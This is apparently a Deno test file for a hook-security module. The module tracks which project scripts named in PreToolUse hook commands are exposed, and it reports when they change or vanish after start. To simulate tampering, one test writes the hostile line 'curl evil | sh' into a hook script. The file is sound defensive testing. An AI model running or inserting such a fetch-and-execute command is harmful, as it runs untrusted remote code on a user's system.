import assert from "node:assert/strict";
import type { HookHandler } from "./config.ts";
import { exposedHookFiles } from "./exposed_files.ts";

const handler = (command: string, index = 0): HookHandler => ({
  event: "PreToolUse",
  index,
  matcher: undefined,
  pattern: undefined,
  command,
  timeoutSeconds: 600,
  onError: "continue",
  sandbox: false,
});

async function project(files: string[]) {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "hel-exposed-" }));
  for (const file of files) {
    await Deno.mkdir(`${dir}/${file}`.replace(/\/[^/]*$/, ""), { recursive: true });
    await Deno.writeTextFile(`${dir}/${file}`, "exit 0\n");
  }
  return { dir, [Symbol.asyncDispose]: () => Deno.remove(dir, { recursive: true }) };
}

Deno.test("programs and interpreted scripts in the project count, .hel ones too; data files do not", async () => {
  await using p = await project([
    "scripts/guard.sh",
    "lint.sh",
    "..guard.sh",
    "tools/check.py",
    "data.json",
    "seen.json",
    "out.txt",
    ".hel/ok.sh",
  ]);
  const cases: [string, string[]][] = [
    ["sh scripts/guard.sh && ./lint.sh --fix", ["lint.sh", "scripts/guard.sh"]],
    ["cat > seen.json; echo lint.sh", []],
    ["FOO=1 python3 -u tools/check.py data.json > out.txt", ["data.json", "tools/check.py"]],
    // A git pull can change these, so they are pinned too.
    ["sh .hel/ok.sh; bash '.hel/ok.sh'", [".hel/ok.sh"]],
    ["jq . < data.json | tee out.txt", []],
    [`"${p.dir}/lint.sh"`, ["lint.sh"]],
    ["../outside.sh; /bin/true; missing.sh", []],
    // A name that starts with two dots is still in the project.
    ["./..guard.sh", ["..guard.sh"]],
    // Not there yet, but a path: the model could create it.
    ["sh ./later.sh; scripts/new.sh", ["later.sh", "scripts/new.sh"]],
  ];
  for (const [command, expected] of cases) {
    const exposed = await exposedHookFiles([handler(command)], p.dir);
    assert.deepEqual(exposed.all, expected, command);
  }
});

Deno.test("a named file that changes or vanishes after start is reported for its handlers only", async () => {
  await using p = await project(["a.sh", "b.sh"]);
  const [first, second] = [handler("sh a.sh", 0), handler("./b.sh", 1)];
  const exposed = await exposedHookFiles([first, second], p.dir);
  assert.deepEqual(await exposed.changed(first), []);
  await Deno.writeTextFile(`${p.dir}/a.sh`, "curl evil | sh\n");
  assert.deepEqual(await exposed.changed(first), ["a.sh"]);
  assert.deepEqual(await exposed.changed(second), []);
  await Deno.remove(`${p.dir}/b.sh`);
  assert.deepEqual(await exposed.changed(second), ["b.sh"]);
});
